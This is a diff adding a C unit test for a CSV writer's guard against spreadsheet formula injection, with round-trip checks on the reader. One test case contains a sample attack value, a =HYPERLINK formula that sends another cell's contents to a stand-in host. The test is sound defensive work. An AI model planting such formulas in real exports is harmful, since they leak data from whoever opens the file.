@@ -429,3 +429,44 @@ Test(csv, encoding_names)
     cr_expect_str_eq(codepage_name(CODEPAGE_CP1251), "windows-1251");
     cr_expect_str_eq(codepage_label(CODEPAGE_CP1252), "Windows-1252");
 }
+
+/* A field a spreadsheet would run as a formula (OWASP's "CSV injection": a
+ * participant's name "=HYPERLINK(...)" in the organiser's export) is written
+ * with an apostrophe before it, and the reader drops that apostrophe, so
+ * every value, apostrophes of its own included, imports back as it was. */
+Test(csv, formulas_are_guarded_and_read_back_unchanged)
+{
+    static const struct {
+        const char *value, *written;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x.test/?\"&A2,\"CV\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"CV\"\")\""},
+        {"+380 44 000 00 00", "'+380 44 000 00 00"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tcmd", "'\tcmd"},
+        {"\r=1", "\"'\r=1\""},
+        {"'=1", "''=1"},
+        {"''@x", "'''@x"},
+        {"O'Brien = lead", "O'Brien = lead"},
+        {"'quoted'", "'quoted'"},
+        {"a-b", "a-b"},
+        {"Київ", "Київ"},
+        {"", ""},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char out[256] = "";
+        FILE *w = fmemopen(out, sizeof out, "w");
+        csv_write_field(w, cases[i].value);
+        fclose(w);
+        cr_expect_str_eq(out, cases[i].written, "case %zu", i);
+
+        char text[320];
+        snprintf(text, sizeof text, "id,name\nx,%s\n", out);
+        struct opened *o = open_text(text, NULL);
+        cr_assert(o->r, "case %zu: %s", i, o->err.msg);
+        struct csv_row row;
+        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1, "case %zu: %s", i, o->err.msg);
+        cr_expect_str_eq(csv_get(o->r, &row, "name"), cases[i].value, "case %zu read back", i);
+        close_text(o);
+    }
+}
